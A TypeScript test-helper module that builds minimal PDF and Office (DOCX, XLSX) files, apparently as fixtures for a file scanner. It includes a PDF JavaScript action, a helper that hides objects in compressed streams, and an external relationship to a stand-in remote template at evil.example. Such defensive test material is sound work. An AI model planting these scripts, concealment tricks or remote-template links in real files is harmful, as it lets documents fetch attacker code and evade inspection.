import { deflateRawSync, deflateSync } from 'node:zlib'

/** A PDF of these objects, whose catalog is the first; xref offsets are right, so that readers open it. */
export const pdf = (...objects: (string | Buffer)[]): Buffer => {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')]
  const offsets: number[] = []
  let at = parts[0]!.length
  for (const [index, body] of objects.entries()) {
    const part = Buffer.concat([
      Buffer.from(`${index + 1} 0 obj\n`),
      Buffer.from(body as never),
      Buffer.from('\nendobj\n'),
    ])
    offsets.push(at)
    at += part.length
    parts.push(part)
  }
  const rows = offsets.map(offset => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')
  const size = objects.length + 1
  parts.push(
    Buffer.from(
      `xref\n0 ${size}\n0000000000 65535 f \n${rows}trailer\n<</Size ${size}/Root 1 0 R>>\nstartxref\n${at}\n%%EOF\n`,
    ),
  )
  return Buffer.concat(parts)
}
export const pages = '<</Type/Pages/Kids[]/Count 0>>'
export const stream = (dictionary: string, data: Buffer) =>
  Buffer.concat([
    Buffer.from(`<<${dictionary}/Length ${data.length}>>\nstream\n`),
    data,
    Buffer.from('\nendstream'),
  ])
/** Objects in a compressed object stream. */
export const hidden = (
  body: string,
  dictionary = '/Type/ObjStm',
  pack: (text: Buffer) => Buffer = text => deflateSync(text),
) => {
  const head = '9 0 '
  const data = pack(Buffer.from(head + body))
  return stream(`${dictionary}/N 1/First ${head.length}/Filter/FlateDecode`, data)
}
export const script = '<</S/JavaScript/JS(app.alert(1))>>'

export const zip = (parts: Readonly<Record<string, string | Buffer>>): Buffer => {
  const local: Buffer[] = []
  const central: Buffer[] = []
  let at = 0
  for (const [name, text] of Object.entries(parts)) {
    const bytes = Buffer.from(text as never)
    const packed = deflateRawSync(bytes)
    const head = Buffer.alloc(30)
    head.writeUInt32LE(0x04034b50, 0)
    head.writeUInt16LE(8, 8)
    head.writeUInt32LE(packed.length, 18)
    head.writeUInt32LE(bytes.length, 22)
    head.writeUInt16LE(name.length, 26)
    const entry = Buffer.alloc(46)
    entry.writeUInt32LE(0x02014b50, 0)
    entry.writeUInt16LE(8, 10)
    entry.writeUInt32LE(packed.length, 20)
    entry.writeUInt32LE(bytes.length, 24)
    entry.writeUInt16LE(name.length, 28)
    entry.writeUInt32LE(at, 42)
    local.push(head, Buffer.from(name), packed)
    central.push(entry, Buffer.from(name))
    at += 30 + name.length + packed.length
  }
  const tail = Buffer.alloc(22)
  tail.writeUInt32LE(0x06054b50, 0)
  tail.writeUInt16LE(Object.keys(parts).length, 10)
  tail.writeUInt32LE(at, 16)
  return Buffer.concat([...local, ...central, tail])
}
const types = (type: string) =>
  `<Types><Override ContentType="application/vnd.openxmlformats-officedocument.${type}"/></Types>`
export const docx = (more: Readonly<Record<string, string | Buffer>>) =>
  zip({
    '[Content_Types].xml': types('wordprocessingml.document.main+xml'),
    'word/document.xml': '<w:document/>',
    ...more,
  })
export const xlsx = (more: Readonly<Record<string, string | Buffer>>) =>
  zip({
    '[Content_Types].xml': types('spreadsheetml.sheet.main+xml'),
    'xl/workbook.xml': '<workbook/>',
    ...more,
  })
export const relation = (type: string, mode = 'TargetMode="External"') =>
  `<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="https://evil.example/t.dotm" ${mode}/></Relationships>`
